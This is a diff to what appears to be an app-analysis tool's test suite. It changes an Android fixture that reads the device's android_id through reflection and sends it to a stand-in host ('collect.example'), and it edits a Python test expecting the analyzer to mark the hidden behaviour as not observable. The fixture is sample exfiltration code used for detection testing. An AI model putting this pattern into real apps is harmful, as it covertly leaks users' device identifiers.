@@ -48,8 +48,8 @@ public class Main extends android.app.Activity {
                     sent = (String) one.getMethod("getString", ContentResolver.class, String.class)
                         .invoke(null, getContentResolver(), "android_id");
                 }
-                Thread.sleep(1500);
                 ((HttpURLConnection) new URL("http://collect.example/i?v=" + sent).openConnection()).getResponseCode();
+                if (!sent.equals("hello")) System.exit(0);
             } catch (Throwable e) { android.util.Log.e("own", "failed", e); System.exit(9); }
         }).start();
     }
@@ -89,7 +89,7 @@ def session(folder: Path, brought: dict[str, str], asked: str) -> dict[str, Any]
 
 
 def test_a_class_of_the_platform_that_the_app_defines_hides_what_it_does(tmp_path: Path) -> None:
-    """… but not what it sends: the device tells the value, too."""
+    """… although it ends at once; but not what it sends: the device tells the value, too."""
     rules = session(tmp_path, HOSTILE, "android.provider.Settings$Secure")
     hidden = {rule for rule, line in rules.items() if "class_of_app" in [one["code"] for one in line["reasons"]]}
     assert hidden and {rules[rule]["state"] for rule in hidden} == {"not_observable"}
